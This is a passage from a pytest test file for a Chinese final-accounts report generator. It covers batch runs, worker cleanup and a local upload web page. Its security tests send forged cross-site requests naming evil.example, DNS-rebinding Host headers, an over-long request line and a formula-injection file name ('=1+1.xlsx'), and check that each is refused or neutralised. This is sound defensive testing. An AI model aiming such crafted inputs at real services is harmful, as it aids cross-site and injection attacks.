    for name in ("甲.xlsx", "乙.xlsx"):
        shutil.copy(good, folder / name)
    run_batch([folder], tmp_path / "out", jobs=32)
    assert started == [2]


def test_worker_initializer_asks_to_die_with_its_parent(monkeypatch):
    """The initializer sets PR_SET_PDEATHSIG and a watchdog that ends a worker whose parent is gone."""
    exits = []
    monkeypatch.setattr(batch, "WATCH_SECONDS", 0.01)
    monkeypatch.setattr(batch.os, "_exit", lambda code: exits.append(code) or (_ for _ in ()).throw(SystemExit))
    batch.die_with_parent(os.getppid())
    time.sleep(0.1)
    assert exits == []
    with pytest.raises(SystemExit):
        batch.die_with_parent(os.getppid() + 123456)
    assert exits == [1]


def _end_leftovers(workers: set[int]) -> None:
    """A failing run must not leave its orphans behind."""
    for w in workers:
        if _alive(w):
            try:
                os.kill(w, signal.SIGKILL)
            except OSError:
                pass


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_killed_serve_releases_its_port(tmp_path, sig):
    """`generate serve` killed (SIGKILL or SIGTERM) during a batch: its workers die, the port is free again."""
    import http.cookiejar
    import urllib.error
    import urllib.request

    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-c", "from generator.cli import main; main()", "serve", "--no-browser",
                             "--port", str(port), "--folder", str(tmp_path / "web")],
                            cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env=os.environ | {"PYTHONPATH": str(ROOT)})
    workers: set[int] = set()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()),
                                         NoRedirect())
    try:
        base = f"http://127.0.0.1:{port}"
        end = time.monotonic() + 30
        page = None
        while page is None and time.monotonic() < end:
            try:
                page = opener.open(base + "/", timeout=2).read().decode()
            except (urllib.error.URLError, ConnectionError):
                time.sleep(0.1)
        token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        boundary = "----hardening"
        body = io.BytesIO()
        body.write(f'--{boundary}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{token}\r\n'.encode())
        for i in range(6):
            body.write(f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="u{i}.xlsx"\r\n'
                       "Content-Type: application/octet-stream\r\n\r\n".encode())
            body.write(ANJU.read_bytes() + b"\r\n")
        body.write(f"--{boundary}--\r\n".encode())
        req = urllib.request.Request(base + "/upload", data=body.getvalue(), method="POST",
                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}", "Origin": base})
        try:
            status = opener.open(req, timeout=30).status
        except urllib.error.HTTPError as exc:
            status = exc.code
        assert status == 303
        end = time.monotonic() + 60
        while len(_children(proc.pid)) < 2 and time.monotonic() < end:
            time.sleep(0.05)
        workers = _children(proc.pid)
        assert workers, "no workers started"
        os.kill(proc.pid, sig)
        proc.wait(30)
        end = time.monotonic() + 10
        while any(_alive(w) for w in workers) and time.monotonic() < end:
            time.sleep(0.1)
        assert not [w for w in workers if _alive(w)]
        # free within seconds: a worker the pool started after the snapshot above also dies with its
        # parent (PR_SET_PDEATHSIG, or its watchdog within a second), and only then closes its copy
        # of the listening socket
        end = time.monotonic() + 10
        while True:
            with socket.socket() as again:
                again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                try:
                    again.bind(("127.0.0.1", port))
                    break
                except OSError:
                    if time.monotonic() > end:
                        raise
            time.sleep(0.2)
    finally:
        if proc.poll() is None:
            proc.kill()
        _end_leftovers(workers)


class NoRedirect(__import__("urllib.request").request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


# ---------------------------------------------------------------- the web page under attack

@pytest.fixture
def app(tmp_path):
    from generator import web

    return web.create_app({"WORK_DIR": tmp_path / "web", "JOBS": 1})


def _token(client) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', client.get("/").get_data(as_text=True)).group(1)


def _post(client, files, token=None, headers=None):
    data = {"files": [(io.BytesIO(b), n) for n, b in files]}
    if token is not None:
        data["csrf"] = token
    return client.post("/upload", data=data, content_type="multipart/form-data", headers=headers or {})


def _message(res) -> str:
    return re.search(r'id="message">(.*?)</p>', res.get_data(as_text=True), re.S).group(1)


@pytest.mark.parametrize("headers, with_token", [
    ({"Origin": "http://evil.example"}, True),
    ({"Origin": "null"}, True),
    ({"Referer": "http://evil.example/page.html"}, True),
    ({"Origin": "http://localhost"}, False),
    ({}, False),
])
def test_cross_site_upload_is_refused(app, good, headers, with_token):
    """A POST from another site (its Origin or Referer) or without the session's token: a Chinese 400,
    and the clerk's session keeps its uploads."""
    from generator import web

    client = app.test_client()
    token = _token(client)
    assert _post(client, [("单位.xlsx", good.read_bytes())], token).status_code == 303
    res = _post(client, [("单位.xlsx", good.read_bytes())], token if with_token else None, headers)
    assert res.status_code == 400
    assert _message(res) == web.CROSS_SITE
    (sess,) = app.extensions["juesuan"].sessions.values()
    assert len(sess.jobs) == 1


def test_same_origin_upload_with_token_is_accepted(app, good):
    client = app.test_client()
    res = _post(client, [("单位.xlsx", good.read_bytes())], _token(client),
                {"Origin": "http://localhost", "Referer": "http://localhost/"})
    assert res.status_code == 303


def test_cookie_is_same_site_strict(app):
    """The session cookie is never sent along by another site's page."""
    client = app.test_client()
    res = client.get("/")
    cookie = res.headers.get("Set-Cookie", "")
    assert "SameSite=Strict" in cookie and "HttpOnly" in cookie


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.evil.example"])
def test_unknown_host_is_refused(app, host):
    """A Host the server does not serve (DNS rebinding): a Chinese 400."""
    from generator import web

    res = app.test_client().get("/", headers={"Host": host})
    assert res.status_code == 400 and _message(res) == web.UNKNOWN_HOST


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000"])
def test_local_hosts_are_served(app, host):
    assert app.test_client().get("/", headers={"Host": host}).status_code == 200


def test_error_pages_are_chinese(app, monkeypatch):
    """404, 413 and 500 pages speak Chinese."""
    from generator import web

    client = app.test_client()
    res = client.get("/no-such-page")
    assert res.status_code == 404 and _message(res).startswith("找不到该页面或文件")
    app.config["MAX_CONTENT_LENGTH"] = 1000
    res = _post(client, [("大.xlsx", b"x" * 5000)], _token(client))
    assert res.status_code == 413 and _message(res).startswith("上传的内容超过了限制")

    def broken(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr(web, "limits_text", broken)
    monkeypatch.setitem(app.view_functions, "index", broken)
    res = client.get("/")
    assert res.status_code == 500 and _message(res) == web.INTERNAL_ERROR


def test_server_answers_a_too_long_address_in_chinese(app):
    """A request line longer than the HTTP server accepts: 414 with a Chinese page."""
    import threading

    from generator import web

    server = web.make_web_server("127.0.0.1", 0, app)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        with socket.create_connection(("127.0.0.1", server.server_port), timeout=10) as conn:
            conn.sendall(b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            reply = b""
            while chunk := conn.recv(65536):
                reply += chunk
    finally:
        server.shutdown()
        server.server_close()
    head, _, body = reply.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 414") or head.startswith(b"HTTP/1.1 414")
    assert b"charset=utf-8" in head
    assert "网址过长，无法处理" in body.decode("utf-8")


def test_each_web_job_keeps_its_own_report(app, good, minimal_data, make_workbook):
    """Uploading a corrected file of the same name: the first upload's link still serves the first report."""
    from docx import Document

    client = app.test_client()
    first = _post(client, [("单位.xlsx", good.read_bytes())], _token(client)).headers["Location"]
    minimal_data["unit"]["name"] = "改名后的单位"
    second_file = make_workbook(minimal_data, "第二.xlsx")
    second = _post(client, [("单位.xlsx", second_file.read_bytes())], _token(client)).headers["Location"]
    assert first != second

    def report_title(job_url):
        page = client.get(job_url).get_data(as_text=True)
        href = re.search(r'href="([^"]+/f/[^"]+)"[^>]*>[^<]*决算说明', page) or re.search(r'href="([^"]+/f/f1)"', page)
        data = client.get(href.group(1)).data
        return Document(io.BytesIO(data)).paragraphs[0].text + "".join(p.text for p in Document(io.BytesIO(data)).paragraphs[:5])

    assert "测试单位" in report_title(first) and "改名后的单位" not in report_title(first)
    assert "改名后的单位" in report_title(second)


def test_web_batch_names_that_fold_alike_and_hostile_names(app, good):
    """"单位.xlsx" and "单位 .xlsx" get two folders in 全部报告.zip; a name starting with "=" stays text in 汇总.xlsx."""
    client = app.test_client()
    data = good.read_bytes()
    url = _post(client, [("单位.xlsx", data), ("单位 .xlsx", data), ("=1+1.xlsx", data)], _token(client)).headers["Location"]
    (sess,) = app.extensions["juesuan"].sessions.values()
    job = next(iter(sess.jobs.values()))
    end = time.monotonic() + 120
    while job.running and time.monotonic() < end:
        time.sleep(0.2)
    assert job.state == "完成", job.message
    archive = zipfile.ZipFile(job.downloads[job.archive].path)
    names = archive.namelist()
    assert len(names) == len(set(names))
    folders = {n.split("/")[0] for n in names if "/" in n}
    assert folders == {"单位", "单位（2）", "=1+1"}, folders
    summary = job.downloads[job.summary].path
    assert b"<f>" not in b"".join(_sheet_xmls(summary).values())
    rows = [r[0] for r in load_workbook(summary)["汇总"].iter_rows(min_row=2, values_only=True)]
    assert "=1+1.xlsx" in rows
    assert url


def test_link_from_another_site_keeps_the_session(app, good):
    """A cross-site link to the page (no Strict cookie sent) gets a self-reloading page and no new cookie."""
    client = app.test_client()
    assert _post(client, [("单位.xlsx", good.read_bytes())], _token(client)).status_code == 303
    res = client.get("/", headers={"Sec-Fetch-Site": "cross-site"})
    assert res.status_code == 200 and "Set-Cookie" not in res.headers
    assert '<meta http-equiv="refresh" content="0">' in res.get_data(as_text=True)
    assert "单位.xlsx" in client.get("/", headers={"Sec-Fetch-Site": "same-origin"}).get_data(as_text=True)


@pytest.mark.parametrize("name", ["单位.XLSX", "单位.xlsm"])
def test_web_accepts_workbooks_whatever_the_case_of_the_suffix(app, good, name):
    """An upload named .XLSX or .xlsm is processed as a workbook (not ignored)."""
    client = app.test_client()
    res = _post(client, [(name, good.read_bytes())], _token(client))
    assert res.status_code == 303
    (sess,) = app.extensions["juesuan"].sessions.values()
    (job,) = sess.jobs.values()
    assert [u.display for u in job.units] == [name] and job.units[0].status == "成功"


# ------------------------------------------------------------------ issue 19: totals over several workbooks

def test_links_inside_a_district_never_count_a_unit_twice(good, tmp_path):
    """A link to a workbook of the same tree, a linked folder, and a copy of the unit under another name:
    one report per file the link points to, and the 全区合计 adds the unit once, naming the copy."""
    folder = tmp_path / "区县"
    (folder / "乡镇").mkdir(parents=True)
    shutil.copy(good, folder / "单位.xlsx")
    (folder / "链接.xlsx").symlink_to(folder / "单位.xlsx")
    (folder / "乡镇" / "链接的文件夹").symlink_to(folder, target_is_directory=True)
    shutil.copy(good, folder / "乡镇" / "单位-副本.xlsx")
    out = tmp_path / "out"
    result = run_batch([folder], out, jobs=1)
    assert result.ok
    assert sorted(r["relative"] for r in result.results) == ["乡镇/单位-副本.xlsx", "单位.xlsx"]
    copy = next(r for r in result.results if r["relative"] == "乡镇/单位-副本.xlsx")
    assert copy["status"] == "警告" and "与“单位.xlsx”是同一个单位" in copy["message"]
    total = list(load_workbook(out / "汇总.xlsx")["汇总"].iter_rows(values_only=True))[-1]
    assert total[3] == "1个单位"


def test_the_sample_district_counts_each_unit_once_and_one_year(tmp_path):
    """`generate sample_inputs/`: the three 2020 workbooks of one unit are each a 警告 naming why, none is added
    to the 2024 全区合计, which states how many units it adds."""
    out = tmp_path / "out"
    res = CliRunner().invoke(main, [str(SAMPLES), "-o", str(out), "--jobs", "1"])
    assert res.exit_code == 0, res.output
    assert res.output.count("报告年度为 2020 年，不是本次汇总的 2024 年") == 3
    assert "是同一个单位（单位名称“资阳市雁江区社会保险事业管理局”）" in res.output
    rows = list(load_workbook(out / "汇总.xlsx")["汇总"].iter_rows(min_row=2, values_only=True))
    total = rows[-1]
    counted = [r for r in rows[:-1] if not r[8] or "不计入全区合计" not in r[8] and "未计入" not in r[8]]
    assert total[3] == f"{len(counted)}个单位" == "7个单位"
    assert total[9] == pytest.approx(sum(r[9] for r in counted))


def test_output_folder_around_the_input_folder_writes_nothing_into_it(good, tmp_path):
    """`generate 区县 -o <the folder around 区县>` with a workbook named 区县.xlsx: the workbooks are found (not
    "没有找到"), and no report lands in the input folder (its folder name would be the input folder's)."""
    folder = tmp_path / "区县"
    (folder / "乡镇").mkdir(parents=True)
    shutil.copy(good, folder / "区县.xlsx")
    shutil.copy(good, folder / "乡镇" / "乡镇.xlsx")
    res = CliRunner().invoke(main, [str(folder), "-o", str(tmp_path), "--jobs", "1"])
    assert res.exit_code == 0, res.output
    assert "共 2 个单位：生成 2 个" in res.output
    assert sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) == ["乡镇", "乡镇/乡镇.xlsx", "区县.xlsx"]
    assert len(list(tmp_path.rglob("*.docx"))) == 2


def test_a_department_folder_given_itself_is_consolidated(tmp_path):
    """`generate X（部门）/` is the 部门 (its 本级 as “…本级” 单位决算, the 部门 consolidated: 1130.00), never
    the 本级 alone published as the 部门决算说明 (870.00); one workbook of it run alone says so."""
    folder = tmp_path / "示范区民政局（部门）"
    shutil.copytree(SAMPLES / "示范区民政局（部门）", folder)
    out = tmp_path / "out"
    result = run_batch([folder], out, jobs=1)
    assert result.ok
    dept = next(r for r in result.results if r.get("level") == "部门")
    assert dept["figures"]["收入总计"] == "1130"
    reports = sorted(p.name for p in out.rglob("*部门决算说明.docx"))
    assert reports == ["示范区民政局2024年度部门决算说明.docx"]
    office = next(folder.glob("*本级*"))
    res = CliRunner().invoke(main, [str(office), "-o", str(tmp_path / "one")])
    assert res.exit_code == 0 and "本报告只含它自己的数字" in res.output and "generate 部门" in res.output


# ---------------------------------------------------------------- batch state and special files

MANIFESTS = {
    "a-list": "[1, 2, 3]",
    "a-string": '"units"',
    "null": "null",
    "units-a-list": '{"units": []}',
    "entry-a-number": '{"units": {"甲.xlsx": 5}}',
    "result-without-status": '{"units": {"甲.xlsx": {"stamp": {}, "result": {"relative": "甲.xlsx"}}}}',
    "files-not-a-list": '{"units": {"甲.xlsx": {"stamp": {}, "result": {"status": "成功", "relative": "甲.xlsx", "files": 7}}}}',
    "figure-not-a-number": '{"units": {"甲.xlsx": {"stamp": {}, "result": {"status": "成功", "relative": "甲.xlsx", '
                           '"files": [], "figures": {"收入总计": "abc"}}}}}',
    "findings-of-another-shape": '{"units": {"甲.xlsx": {"stamp": {}, "result": {"status": "成功", "relative": "甲.xlsx", '
                                 '"files": [], "findings": [1]}}}}',
    "previous-a-list": '{"units": {}, "previous": [1]}',
    "not-json": '{"units": {',
}


@pytest.mark.parametrize("text", MANIFESTS.values(), ids=MANIFESTS.keys())
def test_manifest_of_another_shape_is_set_aside_and_rebuilt(good, tmp_path, text):
    """A manifest.json this program did not write (valid JSON of another shape, or none): one sentence,
    the file kept under another name, every unit generated, and the next run is an ordinary re-run."""
    folder, out = tmp_path / "区县", tmp_path / "out"
    folder.mkdir()
    shutil.copy(good, folder / "甲.xlsx")
    out.mkdir()
    (out / "manifest.json").write_text(text, "utf-8")
    (out / "manifest.journal").write_text('[1]\n{"key": 5, "entry": {}}\n{"key": "甲.xlsx", "entry": [2]}\n', "utf-8")
    first = run_batch([folder], out, jobs=1)
    [note] = first.notes
    assert "“manifest.json”不是本程序写出的格式" in note and "manifest.json.bad" in note
    assert (out / "manifest.json.bad").read_text("utf-8") == text
    assert first.ok and first.skipped == 0 and [r["status"] for r in first.results] == ["成功"]
    again = run_batch([folder], out, jobs=1)
    assert again.notes == [] and again.skipped == 1


def test_cli_says_the_manifest_was_set_aside(good, tmp_path):
    folder, out = tmp_path / "区县", tmp_path / "out"
    folder.mkdir()
    shutil.copy(good, folder / "甲.xlsx")
    out.mkdir()
    (out / "manifest.json").write_text('{"units": []}', "utf-8")
    res = CliRunner().invoke(main, [str(folder), "-o", str(out)])
    assert res.exit_code == 0 and "注意：输出文件夹中的“manifest.json”不是本程序写出的格式" in res.output, res.output


def _special_files(folder: Path) -> dict[str, str]:
    """A link to nothing, a link loop and a FIFO, each named like a workbook; name → the reason listed."""
    os.symlink(folder / "不存在.xlsx", folder / "断开的链接.xlsx")
    os.symlink(folder / "环.xlsx", folder / "环.xlsx")
    os.mkfifo(folder / "管道.xlsx")
    return {"断开的链接.xlsx": "链接指向的文件不存在", "环.xlsx": "链接指向的文件不存在",
            "管道.xlsx": "不是普通文件（命名管道、设备等），未打开"}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX's")
def test_links_to_nothing_and_fifos_in_a_folder_are_listed_not_opened(good, tmp_path):
    """Inside an input folder (and its sub-folders): listed as not processed with the reason, in the
    summary too; a link to a workbook is processed like the workbook."""
    folder = tmp_path / "区县"
    (folder / "乡镇").mkdir(parents=True)
    shutil.copy(good, folder / "甲.xlsx")
    os.symlink(folder / "甲.xlsx", folder / "乡镇" / "链接.xlsx")
    expected = _special_files(folder / "乡镇")
    result = run_batch([folder], tmp_path / "out", jobs=1)
    assert [r["status"] for r in result.results] == ["成功"]  # the link and its workbook: one unit
    assert dict(result.not_processed) == {f"乡镇/{k}": v for k, v in expected.items()}
    listed = load_workbook(tmp_path / "out" / "汇总.xlsx")["未处理的文件"]
    assert {(r[0], r[1]) for r in listed.iter_rows(min_row=2, values_only=True)} == {(f"乡镇/{k}", v) for k, v in expected.items()}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX's")
def test_fifo_or_device_named_as_a_workbook_is_refused_before_it_is_opened(good, tmp_path):
    """`generate check`, `generate`, a batch given the file and `generate 部门`: a sentence naming the
    file at once (opening a FIFO used to wait for ever)."""
    folder = tmp_path / "区县"
    folder.mkdir()
    os.mkfifo(folder / "x.xlsx")
    dept = tmp_path / "民政局（部门）"
    dept.mkdir()
    shutil.copy(good, dept / "本级.xlsx")
    os.mkfifo(dept / "管道.xlsx")
    run = [sys.executable, "-c", "from generator.cli import main; main()"]
    env = os.environ | {"PYTHONPATH": str(ROOT)}
    for args, words in ((["check", str(folder / "x.xlsx")], "“x.xlsx”是命名管道（FIFO），不是普通文件"),
                        ([str(folder / "x.xlsx"), "-o", str(tmp_path / "o1")], "“x.xlsx”是命名管道（FIFO），不是普通文件"),
                        (["check", "/dev/zero"], "“zero”是设备文件，不是普通文件"),
                        ([str(folder / "x.xlsx"), str(good), "-o", str(tmp_path / "o2")], "“x.xlsx”是命名管道（FIFO）"),
                        # in a 部门 folder the FIFO is listed among the files not processed, never opened: the
                        # 部门 (whose only workbook is a 单位's) answers at once with what it lacks
                        (["部门", str(dept), "-o", str(tmp_path / "o3")], "应有且只有一份本级工作簿")):
        proc = subprocess.run(run + args, capture_output=True, text=True, timeout=120, env=env, cwd=tmp_path)
        assert proc.returncode == 1 and words in proc.stdout + proc.stderr, (args, proc.stdout, proc.stderr)
        assert "Traceback" not in proc.stderr


def test_workbooks_named_as_the_batch_files_get_their_own_folders(good, tmp_path):
    """“manifest.json.xlsx”, “generate.log.xlsx”, “汇总.xlsx.xlsx”: reports beside, never in place of,
    the manifest, the log and the summary; the re-run skips them all."""
    folder, out = tmp_path / "区县", tmp_path / "out"
    folder.mkdir()
    names = ["manifest.json.xlsx", "generate.log.xlsx", "汇总.xlsx.xlsx", "Manifest.Journal.xlsx"]
    for name in names:
        shutil.copy(good, folder / name)
    first = run_batch([folder], out, jobs=1)
    assert first.ok and first.notes == [] and (out / "manifest.json").is_file() and (out / "generate.log").is_file()
    assert (out / "汇总.xlsx").is_file()
    folders = {Path(r["out_dir"]).name for r in first.results}
    assert len(folders) == 4 and not folders & {"manifest.json", "generate.log", "汇总.xlsx", "Manifest.Journal"}
    again = run_batch([folder], out, jobs=1)
    assert again.notes == [] and again.skipped == 4


def test_web_reads_a_workbook_with_an_oversized_extra_sheet_and_gives_its_check_workbook(app, good):
    """On the web page too: the report is written, the 提示 names the sheet, and the check workbook downloads."""
    add_sheets(good, {"草稿": sheet_xml(rows=10_001)})
    client = app.test_client()
    job_url = _post(client, [("单位.xlsx", good.read_bytes())], _token(client)).headers["Location"]
    store = app.extensions["juesuan"]
    job = next(iter(next(iter(store.sessions.values())).jobs.values()))
    end = time.monotonic() + 60
    while job.running and time.monotonic() < end:
        time.sleep(0.2)
    [unit] = job.units
    assert unit.status == "成功" and [f.ref for f in unit.findings if f.rule == "READ-SKIPPED"] == ["草稿"]
    assert "工作表“草稿”超过了 10000 行的上限" in client.get(job_url).get_data(as_text=True)
    res = client.get(job_url.rstrip("/") + "/u/0/check", follow_redirects=True)
    assert res.status_code == 200
    marked = load_workbook(io.BytesIO(res.data))
    assert marked["草稿"].max_row == 1 and "READ-SKIPPED" in [c.value for c in marked.worksheets[0]["F"]]  # 规则代码


def test_unit_named_as_the_department_report_gets_its_own_folder(tmp_path):
    """A unit saved as “部门汇总.xlsx” in a 部门 folder: its report folder is not the 部门汇总 folder."""
    dept = tmp_path / "区县" / "示范区民政局（部门）"
    shutil.copytree(SAMPLES / "示范区民政局（部门）", dept)
    (dept / "示范区救助管理站-2024年度单位决算.xlsx").rename(dept / "部门汇总.xlsx")
    result = run_batch([tmp_path / "区县"], tmp_path / "out", jobs=1)
    folders = {r["relative"]: Path(r["out_dir"]) for r in result.results}
    unit, department = folders["示范区民政局（部门）/部门汇总.xlsx"], folders["示范区民政局（部门）/（部门汇总）"]
    assert department.name == "部门汇总" and unit.name.startswith("部门汇总_") and unit.parent == department.parent
    assert [r["status"] for r in result.results if r["relative"].endswith("（部门汇总）")] != ["错误"]
